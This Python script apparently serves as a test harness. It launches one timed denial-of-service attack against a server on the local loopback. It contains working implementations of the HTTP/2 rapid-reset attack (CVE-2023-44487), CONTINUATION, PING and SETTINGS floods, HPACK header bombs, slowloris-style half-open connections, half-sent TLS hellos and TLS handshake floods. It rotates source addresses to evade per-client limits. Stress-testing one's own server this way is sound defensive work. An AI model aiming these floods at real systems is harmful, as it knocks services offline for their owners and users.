"""One attack on this machine's loopback, bounded in time: `attacker.py KIND HTTP_PORT H2C_PORT HTTPS_PORT SECONDS`.

Prints how much it did when its time is over, or when it is told to end. Runs as a process of its own, at the lowest priority, so that it takes the CPU that
nobody else wants.
"""

import os
import select
import signal
import socket
import ssl
import struct
import sys
import time

# As many clients as an attacker has; no limit for each address is met.
ADDRESSES = 100
OPEN = 10_000
CHUNK = 256
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# :method GET, :scheme http, :path /64 and :authority localhost (RFC 7541, appendix A).
REQUEST = b"\x82\x86\x04\x03/64\x41\x09localhost"
STREAMS = 20_000


ended = False


def end(*_) -> None:
    global ended
    ended = True


def goes_on(until: float) -> bool:
    return not ended and time.monotonic() < until


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def settings() -> bytes:
    return frame(4, 0, 0, b"")


def resets():
    """Requests that are taken back at once (CVE-2023-44487)."""
    for first in range(1, STREAMS, 2 * CHUNK):
        streams = range(first, first + 2 * CHUNK, 2)
        yield b"".join(frame(1, 5, stream, REQUEST) + frame(3, 0, stream, b"\0\0\0\x08") for stream in streams)


def continuations():
    """A head without an end."""
    yield frame(1, 1, 1, REQUEST)
    field = b"\x00\x04junk\x7f\x81\x01" + b"x" * 256
    while True:
        yield frame(9, 0, 1, field * 8) * 16


def pings():
    while True:
        yield frame(6, 0, 0, b"8 bytes!") * CHUNK


def settings_flood():
    while True:
        yield settings() * CHUNK


def header_bombs():
    """A field of 4,000 bytes that stands once in the compressor's table, and sixteen thousand times in each head."""
    field = b"\x40\x04bomb\x7f\xa1\x1e" + b"x" * 4_000
    for stream in range(1, STREAMS, 2):
        head = REQUEST + (field if stream == 1 else b"") + b"\xbe" * 12_000
        yield frame(1, 5, stream, head)


def connect(port: int, number: int) -> socket.socket:
    one = socket.socket()
    one.settimeout(5.0)
    one.bind((f"127.0.2.{1 + number % ADDRESSES}", 0))
    one.connect(("127.0.0.1", port))
    return one


def flood(port: int, until: float, frames) -> str:
    """Sends over one connection after the other, for as long as each is taken."""
    connections = sent = 0
    while goes_on(until):
        try:
            with connect(port, connections) as one:
                connections += 1
                one.sendall(PREFACE + settings())
                for some in frames():
                    if not goes_on(until):
                        break
                    sent += send(one, some)
        except OSError:
            # It was refused, or told to go: that is what it has to live with.
            time.sleep(0.002)
    return f"{connections} connections, {sent} bytes"


def send(one: socket.socket, some: bytes) -> int:
    """Sends, and reads what comes meanwhile: a client that reads nothing ends itself."""
    one.sendall(some)
    while select.select([one], [], [], 0)[0]:
        if not one.recv(1 << 16):
            raise ConnectionError("closed")
    return len(some)


def hold(port: int, until: float, first: bytes) -> str:
    """Opens connections, says `first` and nothing more; those that are closed are opened anew."""
    held: dict[int, socket.socket] = {}
    poll, opened = select.poll(), 0
    while goes_on(until):
        try:
            while len(held) < OPEN and goes_on(until):
                one = connect(port, opened)
                opened += 1
                one.sendall(first)
                held[one.fileno()] = one
                poll.register(one, select.POLLIN)
        except OSError:
            pass
        for number, _ in poll.poll(100):
            poll.unregister(number)
            held.pop(number).close()
    return f"{opened} connections opened, {len(held)} held at the end"


def handshakes(port: int, until: float) -> str:
    """Full handshakes, each for nothing."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    done = 0
    while goes_on(until):
        try:
            with connect(port, done) as one, context.wrap_socket(one, server_hostname="localhost"):
                done += 1
        except OSError:
            continue
    return f"{done} handshakes"


def hello() -> bytes:
    """The first half of what a client says."""
    context, into, out = ssl.create_default_context(), ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(into, out, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    said = out.read()
    return said[: len(said) // 2]


FLOODS = {"resets": resets, "continuations": continuations, "pings": pings, "settings": settings_flood,
          "header-bombs": header_bombs}


def main() -> None:
    kind, (plain, h2c, secure, seconds) = sys.argv[1], map(int, sys.argv[2:6])
    os.nice(19)
    signal.signal(signal.SIGTERM, end)
    until = time.monotonic() + seconds
    if kind in FLOODS:
        told = flood(h2c, until, FLOODS[kind])
    elif kind == "half-open":
        told = hold(plain, until, b"GET / HTTP/1.1\r\nHost: localhost\r\nX-")
    elif kind == "half-hello":
        told = hold(secure, until, hello())
    else:
        told = handshakes(secure, until)
    print(told)


main()
